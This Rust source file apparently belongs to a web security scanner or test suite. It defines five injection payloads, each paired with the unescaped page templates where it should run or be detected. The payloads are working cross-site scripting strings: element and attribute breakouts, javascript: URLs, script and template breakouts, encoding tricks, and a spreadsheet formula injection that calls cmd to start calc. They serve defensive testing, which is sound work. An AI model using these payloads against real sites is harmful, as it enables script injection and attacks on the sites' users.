//! The payloads: texts that run `pwned()`, or plant an element or an attribute, wherever a page takes
//! them for markup. Each comes with pages that do, on which it must be found.

/// How a payload is written into a field.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// After the mark of its field.
    After,
    /// Before it: what counts is how the text begins.
    Before,
}

/// Where a payload is looked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Aim {
    /// On pages, and on SQLite alone.
    Pages,
    /// On pages, on each database, since it has signs that one may store in another way.
    PagesOfEach,
    /// In files alone, which other programs open.
    Files,
}

/// One way to be taken for markup.
pub struct Payload {
    pub name: &'static str,
    pub aim: Aim,
    pub place: Place,
    pub text: &'static str,
    /// The same for an e-mail's local part, which has no brackets, quotation marks and spaces, and
    /// room for 58 characters.
    pub local_part: &'static str,
    /// The same for the name of a host.
    pub host: &'static str,
    /// Pages that don't escape, with `{}` where the text goes, in which it must run.
    pub runs: &'static [&'static str],
    /// Those in which it waits for somebody to press something, or is markup that runs nothing: it must
    /// be found.
    pub plants: &'static [&'static str],
}

impl Payload {
    /// Returns a text of this payload with the mark of a field.
    pub fn marked(&self, text: &str, mark: &str) -> String {
        match self.place {
            Place::After => format!("{mark}{text}"),
            Place::Before => format!("{text}{mark}"),
        }
    }
}

pub const PAYLOADS: [Payload; 5] = [
    Payload {
        name: "elements",
        aim: Aim::PagesOfEach,
        place: Place::After,
        text: "<img src=x data-pwned onerror=pwned()>--></title></textarea></style></script></option>\
               </select></svg><svg data-pwned onload=pwned()><script>pwned()</script>\
               <details open data-pwned ontoggle=pwned()>",
        local_part: "'/data-pwned/tabindex=0/autofocus/onfocus=pwned``/x='",
        host: "'data-pwned'autofocus'onfocus='pwned()",
        runs: &[
            "<p>{}</p>",
            "<title>{}</title>",
            "<textarea>{}</textarea>",
            "<!-- {} -->",
            "<style>p { content: '{}' }</style>",
            "<select><option>{}</option></select>",
            "<svg><title>{}</title></svg>",
            "<script type='application/json'>\"{}\"</script>",
        ],
        plants: &[],
    },
    Payload {
        name: "attributes",
        aim: Aim::Pages,
        place: Place::After,
        text: "'\" data-pwned tabindex=0 autofocus onfocus=pwned() x=y\
               ><img src=x data-pwned onerror=pwned()>",
        local_part: "'/data-pwned/tabindex=0/autofocus/onfocus='pwned``",
        host: "\"data-pwned\"autofocus\"onfocus=\"pwned()",
        runs: &[
            "<input value=\"{}\">",
            "<p title=\"{}\">text</p>",
            "<a href=\"/admin/users?q={}\">text</a>",
            "<input value='{}'>",
            "<p title='{}'>text</p>",
            "<input value={}>",
            "<p title={}>text</p>",
            "<bdi {}>text</bdi>",
        ],
        plants: &[],
    },
    Payload {
        name: "URLs, scripts, style sheets and templates",
        aim: Aim::Pages,
        place: Place::Before,
        text: "javascript:pwned()//';pwned();'\";pwned();\"`;pwned();`${pwned()}{{7*7}}{{pwned()}}{%raw%}\
               ;}</style><style data-pwned>*{background:url(//x.example.org/pwned)}</style>",
        local_part: "'+pwned``+'${pwned``}{{7*7}}",
        host: "'+pwned()+'",
        runs: &[
            "<iframe src=\"{}\"></iframe>",
            "<script>var text = '{}'</script>",
        ],
        plants: &[
            "<a href=\"{}\">text</a>",
            "<form action=\"{}\"><button>go</button></form>",
            "<svg><a xlink:href=\"{}\">text</a></svg>",
            "<style>p { color: {} }</style>",
        ],
    },
    Payload {
        name: "what is made into other signs",
        aim: Aim::PagesOfEach,
        place: Place::After,
        text: "&lt;img src=x data-pwned onerror=pwned()&gt;%3Cimg%20src=x%20onerror=pwned()%3E\
               \\u003cimg src=x onerror=pwned()\\u003e\u{ff1c}img src=x onerror=pwned()\u{ff1e}\u{2028}\
               \u{202e}<\u{0}img src=x data-pwned onerror=pwned()><img\u{c}src=x\u{0} onerror=pwned()>",
        local_part: "&#60img/src/onerror=pwned``&#62",
        host: "&#60img&#62",
        runs: &[
            "<p>{}</p>",
            "<p id=once></p><script>once.innerHTML = '&lt;img src=x onerror=pwned()&gt;'</script>\
             <script>once.innerHTML = once.textContent</script>",
        ],
        plants: &[],
    },
    Payload {
        name: "a formula",
        aim: Aim::Files,
        place: Place::Before,
        text: "=cmd|' /C calc'!A0&HYPERLINK(\"javascript:pwned()\")+",
        local_part: "=cmd|'/c+calc'+",
        host: "cmd",
        runs: &[],
        plants: &["<a href=\"javascript:{}\">text</a>"],
    },
];
